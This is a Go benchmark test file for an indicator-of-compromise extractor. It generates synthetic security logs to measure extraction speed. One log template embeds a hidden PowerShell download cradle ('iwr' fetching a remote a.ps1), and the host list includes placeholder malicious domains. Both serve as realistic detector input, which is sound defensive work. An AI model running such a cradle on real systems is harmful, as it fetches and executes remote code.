package ioc

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// mixedLog makes n bytes of log lines in the shapes a hunt meets: syslog
// authentication, web access, Sysmon process creation and DNS events, with
// addresses, names, URLs, hashes, paths, users and clock times.
func mixedLog(n int) []byte {
	r := rand.New(rand.NewPCG(1, 2))
	var b strings.Builder
	hosts := []string{"evil-cdn.com", "update.microsoft.com", "api.github.com", "x7.badsite.ru", "dc01.corp.local", "mail.example.org"}
	for b.Len() < n {
		ip := fmt.Sprintf("%d.%d.%d.%d", r.IntN(223)+1, r.IntN(256), r.IntN(256), r.IntN(256))
		h := hosts[r.IntN(len(hosts))]
		switch r.IntN(5) {
		case 0:
			fmt.Fprintf(&b, "Jan 12 05:48:%02d web01 sshd[%d]: Failed password for invalid user admin from %s port %d ssh2\n", r.IntN(60), r.IntN(99999), ip, r.IntN(65535))
		case 1:
			fmt.Fprintf(&b, "%s - - [12/Jan/2022:05:48:%02d +0000] \"GET /index.php?id=%d HTTP/1.1\" 200 %d \"https://%s/path/page.html\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"\n", ip, r.IntN(60), r.IntN(1000), r.IntN(99999), h)
		case 2:
			fmt.Fprintf(&b, "EventID=1 Image=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe CommandLine=\"powershell.exe -nop -w hidden -c iwr http://%s/a.ps1\" Hashes=MD5=%032x,SHA256=%016x%016x%016x%016x User=CORP\\jdoe\n", ip, r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
		case 3:
			fmt.Fprintf(&b, "2022-01-12T05:48:%02d.123Z dns query name=%s type=A answer=%s client=10.1.%d.%d ttl=300 version=1.2.3.4.5\n", r.IntN(60), h, ip, r.IntN(256), r.IntN(256))
		case 4:
			fmt.Fprintf(&b, "Jan 12 05:48:%02d mail postfix/smtpd[%d]: NOQUEUE: reject: RCPT from unknown[%s]: 554 5.7.1 <jdoe@%s>: Relay access denied; from=<spam@%s> to=<jdoe@%s> proto=ESMTP helo=<ylmf-pc>\n", r.IntN(60), r.IntN(99999), ip, h, hosts[r.IntN(len(hosts))], h)
		}
	}
	return []byte(b.String()[:n])
}

// benchExtract measures run over size bytes of mixedLog with an extractor for opts.
func benchExtract(b *testing.B, size int, opts Options, run func(x *Extractor, text []byte) error) {
	text := mixedLog(size)
	x, err := New(opts)
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		if err := run(x, text); err != nil {
			b.Fatal(err)
		}
	}
}

func extractAll(x *Extractor, text []byte) error {
	x.Extract(text)
	return nil
}

// BenchmarkExtractMixedLog is the target: the default types over mixed log text.
func BenchmarkExtractMixedLog(b *testing.B) { benchExtract(b, 4<<20, Options{}, extractAll) }

// BenchmarkExtractAllTypes is the same text with every type on, paths included.
func BenchmarkExtractAllTypes(b *testing.B) {
	benchExtract(b, 4<<20, Options{Types: Builtin}, extractAll)
}

// BenchmarkExtractReader streams the mixed log through ExtractReader.
func BenchmarkExtractReader(b *testing.B) {
	benchExtract(b, 16<<20, Options{}, func(x *Extractor, text []byte) error {
		return x.ExtractReader(context.Background(), bytes.NewReader(text), func(Match, int) error { return nil })
	})
}
